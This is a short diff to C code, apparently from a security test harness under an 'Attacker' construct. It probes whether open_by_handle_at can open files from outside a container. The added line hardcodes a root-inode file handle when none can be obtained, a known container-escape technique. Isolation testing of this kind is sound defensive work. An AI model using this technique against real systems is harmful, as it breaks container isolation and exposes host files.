@@ -114,7 +114,8 @@ enum Attacker {
     static void handle(const char *path) {
       struct { struct file_handle h; unsigned char f[128]; } handle = {.h.handle_bytes = 128};
       int mount = 0;
-      if (name_to_handle_at(AT_FDCWD, path, &handle.h, &mount, 0) != 0) { printf("no handle: %s\n", strerror(errno)); return; }
+      /* An overlay gives none: then that of the root of most file systems, as the first of its kind had it. */
+      if (name_to_handle_at(AT_FDCWD, path, &handle.h, &mount, 0) != 0) handle.h.handle_bytes = 8, handle.h.handle_type = 1, handle.f[0] = 2;
       int root = open("/", O_RDONLY | O_DIRECTORY);
       int fd = open_by_handle_at(root, &handle.h, O_RDONLY);
       printf("%s\n", fd >= 0 ? "opened" : errno == EPERM ? "EPERM" : strerror(errno));
